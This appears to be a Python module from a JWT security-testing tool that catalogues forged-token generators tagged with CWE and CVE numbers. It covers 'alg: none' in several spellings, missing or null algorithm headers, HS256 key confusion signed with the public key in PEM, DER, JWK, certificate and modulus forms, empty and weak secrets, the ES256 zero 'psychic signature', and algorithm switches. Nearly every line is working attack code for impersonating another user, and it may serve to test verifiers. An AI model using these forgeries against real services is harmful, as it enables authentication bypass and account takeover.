"""Tokens that name another algorithm than the one that the user pool signs with (RFC 8725, section 3.1)."""

import base64
import json

from ManuelAuth.forge import keys, signing
from ManuelAuth.forge.catalogue import forgery
from ManuelAuth.forge.encoding import no_signature, sign
from ManuelAuth.forge.material import Material

UNVERIFIED = "CWE-347"
DOWNGRADE = "CWE-757"
WEAK_KEY = "CWE-1391"
PSYCHIC_P1363 = bytes(64)
PSYCHIC_DER = bytes.fromhex("3006020100020100")
WEAK_SECRETS = (
    "secret",
    "changeme",
    "password",
    "123456",
    "key",
    "jwt",
    "jwt_secret",
    "your-256-bit-secret",
    "supersecret",
    "test",
    "dev",
    "manuel",
)


@forgery("alg-none", UNVERIFIED)
def alg_none(material: Material) -> str:
    """Another user's claims, unsigned, with `alg` none (CVE-2015-9235)."""
    return material.with_header(no_signature, alg="none")


@forgery("alg-none-title-case", UNVERIFIED)
def alg_none_title_case(material: Material) -> str:
    """The same with `None`."""
    return material.with_header(no_signature, alg="None")


@forgery("alg-none-upper-case", UNVERIFIED)
def alg_none_upper_case(material: Material) -> str:
    """The same with `NONE`."""
    return material.with_header(no_signature, alg="NONE")


@forgery("alg-none-mixed-case", UNVERIFIED)
def alg_none_mixed_case(material: Material) -> str:
    """The same with `nOnE`, which a deny list of the other three spellings lets through."""
    return material.with_header(no_signature, alg="nOnE")


@forgery("alg-none-with-blank", DOWNGRADE)
def alg_none_with_blank(material: Material) -> str:
    """The same with `none `, which becomes `none` when it is stripped."""
    return material.with_header(no_signature, alg="none ")


@forgery("alg-none-with-a-signature", UNVERIFIED)
def alg_none_with_a_signature(material: Material) -> str:
    """`alg` none, but with a signature: that of the genuine token."""
    return f"{alg_none(material)}{material.segments[2]}"


@forgery("alg-missing", DOWNGRADE)
def alg_missing(material: Material) -> str:
    """A header without `alg`, and no signature."""
    header = {name: value for name, value in material.header.items() if name != "alg"}
    return sign(header, material.victims_claims, no_signature)


@forgery("alg-empty", DOWNGRADE)
def alg_empty(material: Material) -> str:
    """An empty `alg`, and no signature."""
    return material.with_header(no_signature, alg="")


@forgery("alg-null", DOWNGRADE)
def alg_null(material: Material) -> str:
    """`alg` null, and no signature."""
    return material.with_header(no_signature, alg=None)


@forgery("alg-list", DOWNGRADE)
def alg_list(material: Material) -> str:
    """A list of algorithms with none in it, and no signature."""
    return material.with_header(no_signature, alg=["none"])


@forgery("hs256-signed-with-the-public-key", UNVERIFIED)
def hs256_public_key_pem(material: Material) -> str:
    """HS256 with the public key's PEM text as the secret (CVE-2016-5431)."""
    return _confused(material, keys.spki_pem(material.public_key))


@forgery("hs256-signed-with-the-public-key-without-newline", UNVERIFIED)
def hs256_public_key_pem_without_newline(material: Material) -> str:
    """The same with the PEM text as an environment variable holds it, without the final newline."""
    return _confused(material, keys.spki_pem(material.public_key).rstrip(b"\n"))


@forgery("hs256-signed-with-the-public-key-crlf", UNVERIFIED)
def hs256_public_key_pem_crlf(material: Material) -> str:
    """The same with the line endings of Windows."""
    return _confused(material, keys.spki_pem(material.public_key).replace(b"\n", b"\r\n"))


@forgery("hs256-signed-with-the-public-key-pkcs1", UNVERIFIED)
def hs256_public_key_pkcs1(material: Material) -> str:
    """The same with the PEM text in PKCS #1, the older format of RSA keys."""
    return _confused(material, keys.pkcs1_pem(material.public_key))


@forgery("hs256-signed-with-the-public-key-der", UNVERIFIED)
def hs256_public_key_der(material: Material) -> str:
    """The same with the key's DER bytes."""
    return _confused(material, keys.spki_der(material.public_key))


@forgery("hs256-signed-with-the-public-key-pkcs1-der", UNVERIFIED)
def hs256_public_key_pkcs1_der(material: Material) -> str:
    """The same with the DER bytes of PKCS #1."""
    return _confused(material, keys.pkcs1_der(material.public_key))


@forgery("hs256-signed-with-a-certificate", UNVERIFIED)
def hs256_certificate_pem(material: Material) -> str:
    """The same with the PEM text of a certificate of the key, which comes with the token as `x5c`."""
    certificate = keys.certificate_der(material.public_key)
    return _with_certificate(material, certificate, secret=keys.certificate_pem(certificate))


@forgery("hs256-signed-with-a-certificate-der", UNVERIFIED)
def hs256_certificate_der(material: Material) -> str:
    """The same with the certificate's DER bytes."""
    certificate = keys.certificate_der(material.public_key)
    return _with_certificate(material, certificate, secret=certificate)


@forgery("hs256-signed-with-the-jwk", UNVERIFIED)
def hs256_jwk(material: Material) -> str:
    """The same with the JSON of the key in the key set, as `json.dumps` writes it."""
    return _confused(material, json.dumps(material.public_jwk).encode())


@forgery("hs256-signed-with-the-compact-jwk", UNVERIFIED)
def hs256_compact_jwk(material: Material) -> str:
    """The same with the JSON of the key in the key set, without white space, as `JSON.stringify` writes it."""
    return _confused(material, json.dumps(material.public_jwk, separators=(",", ":")).encode())


@forgery("hs256-signed-with-the-encoded-modulus", UNVERIFIED)
def hs256_encoded_modulus(material: Material) -> str:
    """The same with the modulus in base64url, `n` of the key set."""
    return _confused(material, material.public_jwk["n"].encode())


@forgery("hs256-signed-with-the-key-set", UNVERIFIED)
def hs256_key_set(material: Material) -> str:
    """The same with the text of the key set that the user pool publishes."""
    return _confused(material, material.key_set_text)


@forgery("hs256-signed-with-the-modulus", UNVERIFIED)
def hs256_modulus(material: Material) -> str:
    """The same with the bytes of the modulus."""
    return _confused(material, keys.modulus(material.public_key))


@forgery("hs256-empty-key", WEAK_KEY)
def hs256_empty_key(material: Material) -> str:
    """HS256 with an empty secret (CVE-2019-20933)."""
    return _confused(material, b"")


@forgery("hs256-weak-secret", WEAK_KEY)
def hs256_weak_secret(material: Material, secret: str = WEAK_SECRETS[0]) -> str:
    """HS256 with a secret that is easy to guess; `secret=` chooses it."""
    return _confused(material, secret.encode())


@forgery("es256-psychic-signature", UNVERIFIED)
def es256_psychic_signature(material: Material) -> str:
    """ES256 with the signature r = s = 0, which a careless verifier accepts for any token (CVE-2022-21449)."""
    return material.with_header(lambda _: PSYCHIC_P1363, alg="ES256")


@forgery("es256-psychic-signature-der", UNVERIFIED)
def es256_psychic_signature_der(material: Material) -> str:
    """The same in DER."""
    return material.with_header(lambda _: PSYCHIC_DER, alg="ES256")


@forgery("ps256-signed-with-the-right-key", DOWNGRADE, needs_signing_key=True)
def ps256_right_key(material: Material) -> str:
    """The pool's own key with an algorithm that the pool does not use: PS256."""
    return sign({**material.header, "alg": "PS256"}, material.claims, signing.ps256(material.pool_key))


@forgery("rs512-signed-with-the-right-key", DOWNGRADE, needs_signing_key=True)
def rs512_right_key(material: Material) -> str:
    """The pool's own key with an algorithm that the pool does not use: RS512."""
    return sign({**material.header, "alg": "RS512"}, material.claims, signing.rs512(material.pool_key))


def _with_certificate(material: Material, certificate: bytes, *, secret: bytes) -> str:
    chain = [base64.b64encode(certificate).decode("ascii")]
    return material.with_header(signing.hs256(secret), alg="HS256", x5c=chain)


def _confused(material: Material, secret: bytes) -> str:
    return material.with_header(signing.hs256(secret), alg="HS256")
